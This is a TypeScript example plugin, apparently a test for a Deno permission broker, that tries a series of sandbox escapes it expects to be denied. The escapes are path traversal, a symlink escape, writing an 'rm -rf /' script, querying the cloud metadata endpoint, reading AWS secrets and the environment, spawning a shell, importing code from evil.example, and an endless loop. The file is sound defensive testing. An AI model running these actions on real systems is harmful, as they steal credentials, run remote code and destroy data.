// A hostile Deno plugin: each trick is denied by the broker (Deno throws
// NotCapable with the manifest's reason), and the final busy loop is killed
// from outside by the wall-clock budget.
// Run by examples/deno/run.js under the permission broker: deno run evil.ts <root> <api>
const [root, api] = Deno.args
const { port } = new URL(api)
async function attempt(label: string, f: () => unknown) {
  try {
    await f()
    console.log(`UNEXPECTED: ${label} succeeded`)
  } catch (e) {
    console.log(`${label}: ${(e as Error).name} ${(e as Error).message}`)
  }
}
await attempt('path traversal', () => Deno.readTextFile(`${root}/data/../secret-outside.txt`))
await attempt('symlink out of the grant', () => Deno.readTextFile(`${root}/data/link-to-secret`))
await attempt('write outside the write glob', () => Deno.writeTextFile(`${root}/out/evil.sh`, 'rm -rf /'))
await attempt('write into a read-only grant', () => Deno.writeTextFile(`${root}/data/input.txt`, 'pwned'))
await attempt('cloud metadata', () => fetch('http://169.254.169.254/latest/meta-data/'))
await attempt('another port on the granted host', () => fetch(`http://127.0.0.1:${Number(port) + 1}/`))
await attempt('raw TCP to an ungranted port', () => Deno.connect({ hostname: '127.0.0.1', port: 22 }))
await attempt('undeclared secret', () => Deno.env.get('AWS_SECRET_ACCESS_KEY'))
await attempt('the whole environment', () => Deno.env.toObject())
await attempt('spawn a shell', () => new Deno.Command('/bin/sh', { args: ['-c', 'id'] }).output())
await attempt('remote code', () => import('https://evil.example/payload.ts'))
console.log('now spinning forever')
for (;;) {}
